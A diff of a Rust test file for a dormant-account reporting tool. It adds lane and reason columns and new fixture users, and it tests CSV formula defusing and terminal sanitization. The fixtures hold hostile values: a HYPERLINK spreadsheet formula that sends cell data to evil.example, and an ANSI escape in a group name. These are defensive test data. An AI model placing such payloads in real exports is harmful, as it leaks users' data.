@@ -1,15 +1,17 @@
-//! The report seam: golden table/CSV/JSON output of a small org with hostile and tricky values,
-//! the CSV formula defence, and terminal sanitization.
+//! The report seam: golden table/CSV/JSON output (lanes and reasons included) of a small org with
+//! hostile and tricky values, the CSV formula defence, and terminal sanitization.
 
 use chrono::{DateTime, TimeZone, Utc};
 use dormant::directory::{
-    AccountId, AccountStatus, AccountType, Activity, ClaimStatus, DataSource, Directory, Group, GroupId,
-    ManagementSource, MembershipStatus, Org, PlatformRole, ProductActivity, ProductKey, User, UserStatus,
+    AccountId, AccountStatus, AccountType, Activity, ClaimStatus, DataSource, Directory, DirectoryIndex,
+    Exclusions, Group, GroupId, ManagementSource, MembershipStatus, Org, PlatformRole, Policy,
+    ProductActivity, ProductKey, User, UserStatus,
 };
 use dormant::report::sanitize::{display_width, sanitize_for_terminal, truncate_to_width};
-use dormant::report::{Format, defuse_formula, render, render_users};
+use dormant::report::{Format, defuse_formula, render_rows};
 use proptest::prelude::*;
 use std::borrow::Cow;
+use std::sync::Arc;
 
 fn at(year: i32, month: u32, day: u32) -> DateTime<Utc> {
     Utc.with_ymd_and_hms(year, month, day, 9, 30, 0)
@@ -61,7 +63,7 @@ fn group(id: &str, name: &str) -> Group {
     }
 }
 
-/// Nine users covering every activity state and the values that break naive renderers.
+/// Ten users covering every lane, every activity state and the values that break naive renderers.
 fn fixture() -> Directory {
     let mut admin = user(
         "712020:aaaa",
@@ -107,7 +109,7 @@ fn fixture() -> Directory {
             group("g-jira", "jira-users"),
             group("g-evil", "@SUM(1+1)\u{1b}[31m red"),
         ],
-        users: vec![
+        users: [
             admin,
             hostile,
             unmanaged,
@@ -139,7 +141,10 @@ fn fixture() -> Directory {
                 Activity::Known(vec![seen("loom", Some(at(2026, 3, 12)))]),
                 &[],
             ),
-        ],
+        ]
+        .into_iter()
+        .chain(lane_users())
+        .collect(),
         loaded_at: now(),
         source: DataSource::Api {
             base_url: "https://api.atlassian.com/".to_owned(),
@@ -147,9 +152,57 @@ fn fixture() -> Directory {
     }
 }
 
+/// Two cleanup-ready users (one synced from the identity provider) and a service account.
+fn lane_users() -> [User; 3] {
+    let mut idle_synced = user(
+        "712020:hhhh",
+        "Henry Idle",
+        Some("henry@example.com"),
+        Activity::Known(vec![
+            seen("jira", Some(at(2025, 6, 1))),
+            seen("confluence", Some(at(2025, 9, 1))),
+        ]),
+        &["g-jira"],
+    );
+    idle_synced.management_source = Some(ManagementSource::Synced);
+
+    let mut never_active = user(
+        "712020:iiii",
+        "Ivy Never",
+        Some("ivy@example.com"),
+        Activity::Known(vec![seen("jira", None)]),
+        &["g-jira"],
+    );
+    never_active.added_to_org = Some(at(2025, 1, 15));
+
+    [
+        idle_synced,
+        never_active,
+        user(
+            "712020:jjjj",
+            "Build Bot",
+            Some("build-bot@serviceaccount.atlassian.com"),
+            Activity::Known(vec![seen("jira", Some(at(2024, 2, 1)))]),
+            &[],
+        ),
+    ]
+}
+
+fn index() -> DirectoryIndex {
+    DirectoryIndex::build(
+        Arc::new(fixture()),
+        &Policy::default(),
+        &Exclusions::default(),
+        now(),
+    )
+}
+
+/// Every user in directory order, so rows line up with the fixture.
 fn rendered(format: Format) -> String {
+    let index = index();
+    let rows: Vec<u32> = (0..index.len() as u32).collect();
     let mut out = Vec::new();
-    render(&fixture(), now(), format, &mut out).expect("renders");
+    render_rows(&index, &rows, format, &mut out).expect("renders");
     String::from_utf8(out).expect("UTF-8")
 }
 
@@ -185,6 +238,7 @@ fn table_never_passes_terminal_controls_and_stays_aligned() {
     for title in [
         "NAME",
         "EMAIL",
+        "LANE",
         "CLAIM",
         "SOURCE",
         "STATUS",
@@ -192,6 +246,7 @@ fn table_never_passes_terminal_controls_and_stays_aligned() {
         "CONFLUENCE",
         "LAST ACTIVE",
         "GROUPS",
+        "REASONS",
     ] {
         let start = display_width(&header[..header.find(title).expect(title)]);
         for line in &lines {
@@ -220,7 +275,7 @@ fn csv_defuses_formulas_and_round_trips_values() {
     let headers = reader.headers().expect("headers").clone();
     let column = |name: &str| headers.iter().position(|h| h == name).expect(name);
     let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("record")).collect();
-    assert_eq!(records.len(), 7);
+    assert_eq!(records.len(), 10);
     assert_eq!(
         &records[1][column("email")],
         "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
@@ -287,21 +342,14 @@ fn json_keys_are_stable_and_states_distinct() {
 
 #[test]
 fn selected_users_keep_every_product_column() {
-    let directory = fixture();
+    let index = index();
     let mut out = Vec::new();
-    render_users(
-        &directory,
-        directory.users.iter().rev().take(1),
-        now(),
-        Format::Csv,
-        &mut out,
-    )
-    .expect("renders");
+    render_rows(&index, &[6], Format::Csv, &mut out).expect("renders");
     let text = String::from_utf8(out).expect("UTF-8");
-    assert!(text.starts_with("account_id,name,email,claim_status,management_source,status,roles,last_active_confluence,last_active_jira,last_active_loom,"), "{text}");
+    assert!(text.starts_with("account_id,name,email,lane,claim_status,management_source,status,roles,last_active_confluence,last_active_jira,last_active_loom,"), "{text}");
     assert_eq!(text.lines().count(), 2);
     let mut out = Vec::new();
-    render_users(&directory, [], now(), Format::Json, &mut out).expect("renders");
+    render_rows(&index, &[], Format::Json, &mut out).expect("renders");
     assert_eq!(out, b"[]\n");
 }
 
